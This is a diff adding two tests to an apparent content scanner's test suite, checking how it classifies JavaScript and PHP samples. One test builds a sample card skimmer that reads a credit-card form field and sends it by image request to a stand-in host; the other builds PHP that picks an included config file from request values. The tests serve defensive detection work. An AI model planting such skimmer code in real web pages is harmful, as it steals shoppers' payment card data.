@@ -84,4 +84,22 @@ describe('which engine reads what', () => {
   it('directives are nothing in a file that is none of those', () => {
     expect(judged('AddHandler application/x-httpd-php .jpg\n').findings).toEqual([])
   })
+
+  it('JavaScript with a PHP tag in a comment is read as JavaScript too', () => {
+    const skimmer = [
+      `/* ${open} */`,
+      `document.querySelector('form').addEventListener('submit', function () {`,
+      `  var card = document.querySelector('[name=cc_number]').value;`,
+      `  new Image().src = 'https://hf-test.example/c?n=' + encodeURIComponent(card);`,
+      `});`,
+    ].join('\n')
+    const reasons = ofPack(judged(skimmer), 'engine').map(({ reason }) => reason)
+    expect(reasons.join(' ')).toContain('-js.')
+  })
+
+  it('the choice between files of one directory of the program is no finding', () => {
+    const path = (name: string): string => `$f = '/etc/hf-test/config-' . ${name} . '.php';`
+    const text = `if ($a) { ${path("$_SERVER['HTTP_HOST']")} } else { ${path("strtolower($_GET['h'])")} } require $f;`
+    expect(judged(`${open} ${text}`).findings).toEqual([])
+  })
 })
